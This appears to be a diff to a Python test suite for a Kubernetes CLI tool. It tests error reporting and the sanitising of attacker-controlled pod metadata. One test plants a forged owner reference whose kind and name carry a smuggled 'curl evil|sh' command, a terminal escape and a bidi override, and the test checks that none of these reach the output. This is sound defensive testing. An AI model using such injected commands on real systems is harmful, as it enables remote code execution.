@@ -119,7 +119,7 @@ def test_what_may_not_be_read_is_said(bare: cluster.Cluster, shop: str) -> None:
     shown = hostnetwork(bare, "status", "--as", "nobody", "--fail-on", "Uncovered")
     assert shown.returncode == 1
     assert "not looked at: pods: " in shown.stderr
-    assert "No pod with host namespaces" not in shown.stderr
+    assert "No pod with" not in shown.stderr
     document = result(bare, "status", "--as", "nobody", status=1)
     assert {each["what"] for each in document["notLookedAt"]} >= {
         "pods",
@@ -143,6 +143,7 @@ def test_a_server_that_does_not_answer_is_named(bare: cluster.Cluster) -> None:
     shown = hostnetwork(bare, "status", "--request-timeout", "2s", user=nowhere)
     assert (shown.returncode, shown.stdout) == (1, "")
     assert shown.stderr.startswith("error: the server https://127.0.0.1:1 does not answer (")
+    assert shown.stderr.count("\n") == 1
 
 
 def test_impersonation_is_that_of_kubectl(bare: cluster.Cluster, shop: str) -> None:
@@ -224,13 +225,25 @@ def test_who_may_not_read_the_ledger_is_told_that_approvals_are_not_known(world:
     assert row(result(world.cluster, "status", "-n", namespace), namespace, "capture")["verdict"] == "Covered"
 
 
-def test_hostile_text_reaches_no_terminal(world: World) -> None:
-    """The names of images are text of whoever creates a pod; owner and reason are kept plain by the CRD already."""
-    namespace = world.namespace(deny=False, old=True)
-    world.pod(namespace, "hostile", containers=[{"name": "main", "image": f"{IMAGE}-\u202e"}])
-    for form in ("table", "wide", "json", "yaml", "name"):
-        shown = hostnetwork(world.cluster, "status", "-n", namespace, "-o", form)
-        assert shown.stdout.replace("\n", "").isprintable()
+def test_hostile_text_reaches_no_terminal(bare: cluster.Cluster, shop: str) -> None:
+    """Whoever creates a pod writes the kind and the name of its owner. The command to paste names no such owner.
+
+    The garbage collector deletes a pod whose owner is missing. It keeps a pod whose owner has a kind that nobody serves.
+    """
+    evil = "x;curl evil|sh\x1b[2J\u202e"
+    owner = {"apiVersion": "example.com/v1", "kind": evil, "name": evil, "uid": "forged", "controller": True}
+    pod = {"hostNetwork": True, "containers": [{"name": "main", "image": f"{IMAGE}-\u202e"}]}
+    body = {"metadata": {"name": "hostile", "ownerReferences": [owner]}, "spec": pod}
+    bare.admin.post(f"/api/v1/namespaces/{shop}/pods", body).expect(201)
+    try:
+        for form in FORMS:
+            shown = hostnetwork(bare, "status", "-n", shop, "-o", form)
+            text = shown.stdout + shown.stderr
+            assert "hostile" in shown.stdout
+            assert "evil" not in text
+            assert text.replace("\n", "").isprintable()
+    finally:
+        bare.admin.delete(f"/api/v1/namespaces/{shop}/pods/hostile").expect(200)
 
 
 def test_kubectl_finds_the_command_and_completes_it(bare: cluster.Cluster) -> None:
